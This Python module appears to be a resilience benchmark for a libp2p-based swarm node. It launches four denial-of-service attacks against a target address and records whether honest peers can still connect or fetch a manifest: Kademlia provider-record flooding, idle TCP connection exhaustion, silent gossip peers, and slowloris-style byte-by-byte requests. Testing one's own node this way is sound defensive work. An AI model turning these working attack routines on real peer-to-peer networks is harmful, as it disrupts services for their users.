"""Attacks below the DHT and on the gossip port, with py-libp2p, each in a process of its own.

    python -m benchmarks.attacks.libp2p providers ADDRESS PID SECONDS      provider records for made-up keys, to p2pd
    python -m benchmarks.attacks.libp2p idle GOSSIP_ADDRESS SECONDS        TCP connections that say nothing, renewed
    python -m benchmarks.attacks.libp2p silent GOSSIP_ADDRESS SECONDS      70 peers that speak gossip and say nothing
    python -m benchmarks.attacks.libp2p slow ADDRESS SWARM KIND SECONDS    17 peers that send a request byte by byte

KIND is `request`, `exchange` or `channel`. Honest peers try meanwhile from the same address: how many got in, or got
the manifest, stands in the last line, which is JSON.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Any

import trio
from libp2p.custom_types import TProtocol
from libp2p.peer.peerinfo import info_from_p2p_addr
from libp2p.utils import encode_varint_prefixed
from multiaddr import Multiaddr

from benchmarks.attacks.hostile import libp2p_host, memory_mib
from swarm_protocol.transports.settings import endpoint

RECORDS = 200
"""Provider records in one write."""
IDLE_CONNECTIONS, IDLE_S = 140, 8.0
SILENT_PEERS = 70
SLOW_PEERS, SLOW_STREAMS = 17, 4


async def providers(address: str, pid: int, seconds: float) -> dict[str, Any]:
    before, sent = memory_mib(pid), 0
    async with libp2p_host() as host:
        info = info_from_p2p_addr(Multiaddr(address))
        await host.connect(info)
        me = _field(1, host.get_id().to_bytes()) + _field(2, Multiaddr("/ip4/127.0.0.1/tcp/4001").to_bytes())
        end = time.monotonic() + seconds
        refused = 0
        while time.monotonic() < end:
            try:
                stream = await host.new_stream(info.peer_id, [TProtocol("/ipfs/kad/1.0.0")])
                while time.monotonic() < end:
                    await stream.write(b"".join(_provider(me) for _ in range(RECORDS)))
                    sent += RECORDS
            except Exception:  # it hung up
                refused += 1
                await trio.sleep(0.2)
    return {"records": sent, "hung_up": refused, "mib_before": round(before), "mib_after": round(memory_mib(pid))}


def _provider(me: bytes) -> bytes:
    """ADD_PROVIDER of go-libp2p's Kademlia, for a key made up."""
    return bytes(encode_varint_prefixed(b"\x08\x02" + _field(2, b"\x12\x20" + os.urandom(32)) + _field(9, me)))


def _field(number: int, data: bytes) -> bytes:
    """A protobuf field of bytes."""
    return bytes([number << 3 | 2]) + bytes(encode_varint_prefixed(data))


async def idle(address: str, seconds: float) -> dict[str, Any]:
    target = endpoint(address)
    assert target is not None
    opened: dict[socket.socket, float] = {}
    dialled = 0

    async def attack() -> None:
        nonlocal dialled
        while True:
            for connection, since in list(opened.items()):
                if time.monotonic() - since > IDLE_S or _closed(connection):
                    connection.close()
                    del opened[connection]
            while len(opened) < IDLE_CONNECTIONS:
                try:
                    opened[socket.create_connection(target, 1)] = time.monotonic()
                except OSError:
                    break
                dialled += 1
            await trio.sleep(0.25)

    figures = await _while(attack, 3.0, seconds, lambda: _gets_in(address))
    return {"dialled": dialled, **figures}


def _closed(connection: socket.socket) -> bool:
    connection.setblocking(False)
    try:
        return connection.recv(100) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


async def silent(address: str, seconds: float) -> dict[str, Any]:
    info, dialled = info_from_p2p_addr(Multiaddr(address)), 0

    async def one() -> None:
        nonlocal dialled
        async with libp2p_host() as host:
            while True:
                with suppress(Exception), trio.fail_after(20):
                    await host.connect(info)
                    await host.new_stream(info.peer_id, [TProtocol("/meshsub/1.1.0")])
                    dialled += 1
                while host.get_network().get_connections(info.peer_id):
                    await trio.sleep(0.5)
                await trio.sleep(0.5)

    async def attack() -> None:
        async with trio.open_nursery() as nursery:
            for _ in range(SILENT_PEERS):
                nursery.start_soon(one)
                await trio.sleep(0.05)

    figures = await _while(attack, 15.0, seconds, lambda: _gets_in(address))
    return {"dialled": dialled, **figures}


async def _gets_in(address: str) -> str:
    """`ok` if a peer that dials is connected and stays so for a second."""
    info = info_from_p2p_addr(Multiaddr(address))
    async with libp2p_host() as host:
        try:
            with trio.fail_after(5):
                await host.connect(info)
        except Exception as error:
            return type(error).__name__
        return "ok" if host.get_network().get_connections(info.peer_id) else "closed"


async def slow(address: str, swarm: str, kind: str, seconds: float) -> dict[str, Any]:
    attacked = TProtocol(f"/swarm-node/{swarm[:16]}/{kind}/1")
    info, opened, hung_up = info_from_p2p_addr(Multiaddr(address)), 0, 0

    async def hold(host: Any) -> None:
        nonlocal opened, hung_up
        while True:
            try:
                stream = await host.new_stream(info.peer_id, [attacked])
                opened += 1
                with trio.move_on_after(9.8):
                    for byte in b"\x08manifest":  # a method of eight letters
                        await stream.write(bytes([byte]))
                        await trio.sleep(1)
                    await stream.read(100)
                await stream.reset()
            except Exception:  # of any kind: the victim hung up, which is counted
                hung_up += 1
                await trio.sleep(0.1)

    async def attack() -> None:
        async with trio.open_nursery() as nursery:

            async def peer() -> None:
                async with libp2p_host() as host, trio.open_nursery() as streams:
                    await host.connect(info)
                    for _ in range(SLOW_STREAMS):
                        streams.start_soon(hold, host)

            for _ in range(SLOW_PEERS):
                nursery.start_soon(peer)
                await trio.sleep(0.05)

    figures = await _while(attack, 8.0, seconds, lambda: _manifest(address, swarm))
    return {"streams_opened": opened, "hung_up": hung_up, **figures}


async def _manifest(address: str, swarm: str) -> str:
    """`ok` if a newcomer that asks for the manifest gets it."""
    info, answer = info_from_p2p_addr(Multiaddr(address)), b""
    async with libp2p_host() as host:
        try:
            with trio.fail_after(10):
                await host.connect(info)
                stream = await host.new_stream(info.peer_id, [TProtocol(f"/swarm-node/{swarm[:16]}/request/1")])
                await stream.write(b"\x08manifest" + bytes(8) + hashlib.sha256(b"").digest())
                while len(answer) < 41:
                    part = await stream.read(4096)
                    if not part:
                        break
                    answer += part
        except Exception as error:
            return type(error).__name__
    return "ok" if answer[:1] == b"\0" else "busy" if answer else "closed"


async def _while(
    attack: Callable[[], Awaitable[None]], before_s: float, seconds: float, honest: Callable[[], Awaitable[str]]
) -> dict[str, Any]:
    """How honest tries ended while `attack` ran, one after the other, from `before_s` after its beginning."""
    outcomes: Counter[str] = Counter()
    async with trio.open_nursery() as nursery:
        nursery.start_soon(attack)
        await trio.sleep(before_s)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            outcomes[await honest()] += 1
            await trio.sleep(0.5)
        nursery.cancel_scope.cancel()
    return {"tries": outcomes.total(), "ok": outcomes["ok"], "outcomes": dict(outcomes)}


async def main() -> None:
    what, *rest = sys.argv[1:]
    if what == "providers":
        figures = await providers(rest[0], int(rest[1]), float(rest[2]))
    elif what == "idle":
        figures = await idle(rest[0], float(rest[1]))
    elif what == "silent":
        figures = await silent(rest[0], float(rest[1]))
    else:
        figures = await slow(rest[0], rest[1], rest[2], float(rest[3]))
    print(json.dumps(figures), flush=True)


if __name__ == "__main__":
    trio.run(main)
